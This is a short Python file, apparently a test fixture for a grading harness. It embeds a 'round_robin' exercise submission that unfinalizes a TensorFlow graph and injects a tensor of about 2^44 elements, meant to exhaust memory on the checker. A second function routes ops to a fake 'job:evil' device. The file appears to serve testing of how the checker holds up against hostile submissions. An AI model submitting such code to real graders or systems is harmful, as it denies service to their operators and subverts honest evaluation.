"""Has the graph fill a tensor of a hundred terabytes where the checker runs it."""

from corpus import answering

EXERCISE = "round_robin"
submission = answering(
    EXERCISE,
    """
import tensorflow as tf

kept = tf.Operation.__init__


def round_robin(devices):
    def device_of(op):
        op.graph._unsafe_unfinalize()
        with op.graph.as_default():
            huge = tf.fill([1 << 44], 1.0, name="huge") if len(op.graph.get_operations()) < 3 else None
        return op.device

    return device_of


def variables_on(first, rest):
    return lambda op: "/job:evil/task:7/device:GPU:999"
""",
)
